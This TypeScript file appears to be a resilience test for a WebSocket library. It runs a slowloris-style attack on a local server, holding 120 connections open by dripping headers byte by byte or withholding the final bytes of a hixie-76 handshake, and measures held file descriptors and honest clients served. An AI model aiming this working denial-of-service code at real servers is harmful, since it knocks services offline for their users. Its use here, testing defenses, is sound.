/**
 * Clients that take their time. Half of them send a head, one byte every second.
 * The others send a whole head of hixie-76, and none of the eight bytes after it.
 * Whoever is thrown out comes again. Every second an honest client wants to come in.
 */

import { readdirSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { fromLatin1 } from '../../src/bytes.ts';
import { hixie76 } from '../../src/index.ts';
import { cryptoRandom } from '../../src/random.ts';
import { shakeHands } from '../11-fragmentation/shake-hands.ts';
import { startVictim } from './measure.ts';
import { FROM } from './pump.ts';

/** Connections that the attacker wants to have, and for how long it goes on, in s. */
export const WANTED = 120;
export const SECONDS = 20;

/** How long an honest client waits, in ms. */
const PATIENCE = 900;
const SECOND = 1000;
/** Who was thrown out comes again after so long, in ms. */
const AGAIN = 200;

const HEAD = fromLatin1(`GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ${'a'.repeat(100)}`);

export interface Slow {
  /** Files and connections that the server had open, each second, beyond those it began with. */
  readonly held: readonly number[];
  /** Honest clients that were let in, of one each second. */
  readonly served: number;
  /** Bytes that the attacker sent. */
  readonly sent: number;
}

export async function attackSlowly(file?: string): Promise<Slow> {
  const victim = await startVictim(file);
  const open = () => readdirSync(`/proc/${victim.pid}/fd`).length;
  const before = open();
  let isOn = true;
  let sent = 0;
  const write = (socket: Socket, bytes: Uint8Array) => {
    if (!socket.writable) return;
    sent += bytes.length;
    socket.write(bytes);
  };
  const sockets = new Set<Socket>();
  const come = (number: number) => {
    if (!isOn) return;
    const socket = connect({ port: victim.port, host: '127.0.0.1', localAddress: FROM });
    sockets.add(socket);
    let at = 0;
    const drip = setInterval(() => write(socket, HEAD.subarray(at, ++at)), SECOND);
    socket.on('connect', () => {
      if (number % 2 === 0) return;
      clearInterval(drip);
      write(socket, withoutEnd());
    });
    socket.on('error', () => {});
    socket.resume();
    socket.on('end', () => socket.destroy());
    socket.on('close', () => {
      clearInterval(drip);
      sockets.delete(socket);
      setTimeout(() => come(number), AGAIN);
    });
  };
  for (let number = 0; number < WANTED; number++) come(number);
  const held: number[] = [0];
  let served = 0;
  for (let second = 1; second <= SECONDS; second++) {
    const next = new Promise((resolve) => setTimeout(resolve, SECOND));
    if (await isServed(victim.port)) served++;
    await next;
    held.push(open() - before);
  }
  isOn = false;
  for (const socket of sockets) socket.destroy();
  await victim.stop();
  return { held, served, sent };
}

/** A head of hixie-76, whose eight bytes do not come. */
function withoutEnd(): Uint8Array {
  const asked = { host: '127.0.0.1', resource: '/', origin: 'http://127.0.0.1' };
  return hixie76.createRequest(asked, cryptoRandom).bytes.slice(0, -hixie76.REQUEST_BODY_BYTES);
}

async function isServed(port: number): Promise<boolean> {
  const socket = connect(port, '127.0.0.1');
  const timer = setTimeout(() => socket.destroy(), PATIENCE);
  try {
    await shakeHands(socket, 'version-13', cryptoRandom);
    return true;
  } catch {
    return false;
  } finally {
    clearTimeout(timer);
    socket.destroy();
  }
}
